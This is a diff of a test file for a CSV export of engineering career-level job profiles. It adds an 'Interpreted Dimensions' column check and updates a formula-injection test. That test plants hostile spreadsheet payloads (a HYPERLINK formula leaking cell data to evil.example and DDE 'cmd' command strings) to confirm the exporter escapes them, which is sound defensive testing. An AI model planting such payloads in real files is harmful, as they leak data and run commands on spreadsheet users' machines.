@@ -47,7 +47,14 @@ describe('CSV: one job profile per level', () => {
       'Summary',
       ...framework.dimensions.map((d) => d.title),
       'Description',
+      'Interpreted Dimensions',
     ]);
+    // The last column names the dimensions where a level's text is the framework's reading.
+    for (const [i, level] of framework.levels.entries()) {
+      const interpreted = level.expectations.filter((e) => e.basis === 'interpreted').map((e) => e.dimension.title);
+      expect(rows[i]!['Interpreted Dimensions'], level.slug).toBe(interpreted.join('; '));
+    }
+    expect(rows.some((r) => r['Interpreted Dimensions'] !== '')).toBe(true);
     expect(rows[2]).toMatchObject({ 'Job Title': 'Distinguished Engineer', 'Job Family': 'Engineering', Rank: '3' });
     expect(rows[2]!['Operating scope']).toMatch(/^The whole company\. /);
     expect(rows.every((r) => !/[<*]/.test(Object.values(r).join(' ')))).toBe(true);
@@ -78,8 +85,8 @@ describe('CSV: one job profile per level', () => {
       text
         .replace('title: Staff Engineer', `title: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Staff\\")"`)
         .replace(
-          'Technical leadership for a whole organisation',
-          "@SUM(1+1)*cmd|' /C calc'!A0 Technical leadership for a whole organisation",
+          'Works across an organisation, typically one a VP leads',
+          "@SUM(1+1)*cmd|' /C calc'!A0 Works across an organisation, typically one a VP leads",
         )
         .replace(/(operating-scope:\n\s+headline: )The whole company/, "$1'+1+1'"),
     );
@@ -91,7 +98,7 @@ describe('CSV: one job profile per level', () => {
     // No cell of the file starts a formula; each hostile one reads back as its text behind an apostrophe.
     expect(cells.filter((c) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(c))).toEqual([]);
     expect(rows[1]![1]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Staff")`);
-    expect(rows[2]![4]).toMatch(/^'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0 Technical leadership/);
+    expect(rows[2]![4]).toMatch(/^'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0 Works across an organisation/);
     expect(rows[3]![0]).toBe(`'-2+3+cmd|A0`);
     expect(rows[3]![5]).toMatch(/^'\+1\+1\. /);
   });
